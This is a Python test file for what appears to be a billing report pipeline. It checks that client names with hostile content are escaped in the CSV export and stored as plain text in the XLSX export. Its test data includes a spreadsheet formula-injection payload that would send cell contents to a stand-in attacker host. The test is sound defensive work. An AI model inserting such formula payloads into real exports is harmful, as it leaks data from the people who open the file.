"""The monthly report's CSV and XLSX under hostile client names (issue 14, finding 3): text stays text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import update

from beg_pipeline.db.models import Cliente, Processo
from beg_pipeline.services import relatorios
from beg_pipeline.storage import object_store_from_settings
from tests.builders import MES, mes_com_processos

NOMES = ['=HYPERLINK("http://evil.example/?"&A2,"Clique")', "+1", "-2", "@SUM(A1)", "\tx"]


def test_hostile_client_names_are_text_in_csv_and_xlsx(ctx, settings):
    procs = mes_com_processos(ctx, n_clientes=len(NOMES) + 1)
    with ctx.db.transacao() as s:
        for processo, nome in zip(procs, NOMES, strict=False):
            s.execute(update(Cliente).where(Cliente.id == processo.cliente_id).values(razao_social=nome))
        s.execute(update(Processo).where(Processo.id == procs[0].id).values(valor_fatura=Decimal("-2.50")))
    normal = procs[-1].cliente.razao_social
    store = object_store_from_settings(settings)
    chaves = relatorios.armazenar_relatorio(relatorios.gerar_relatorio(ctx, MES, dt.date(2026, 12, 1)), store)

    linhas = list(csv.DictReader(io.StringIO(store.get(chaves["csv"]).decode("utf-8-sig")), delimiter=";"))
    celulas = {linha["processo_id"]: linha for linha in linhas}
    for processo, nome in zip(procs, NOMES, strict=False):
        assert celulas[str(processo.id)]["cliente"] == "'" + nome
    assert celulas[str(procs[-1].id)]["cliente"] == normal  # nothing added to ordinary text
    assert celulas[str(procs[0].id)]["valor_fatura"] == "-2,5"  # a negative amount is a number, not escaped

    livro = load_workbook(io.BytesIO(store.get(chaves["xlsx"])))
    assert not [c.coordinate for folha in livro for linha in folha.iter_rows() for c in linha if c.data_type == "f"]
    folha = livro["processos"]
    cabecalho = [c.value for c in folha[1]]
    coluna = cabecalho.index("cliente")
    clientes = {linha[0].value: linha[coluna] for linha in folha.iter_rows(min_row=2)}
    for processo, nome in zip(procs, NOMES, strict=False):
        assert (clientes[str(processo.id)].data_type, clientes[str(processo.id)].value) == ("s", nome)
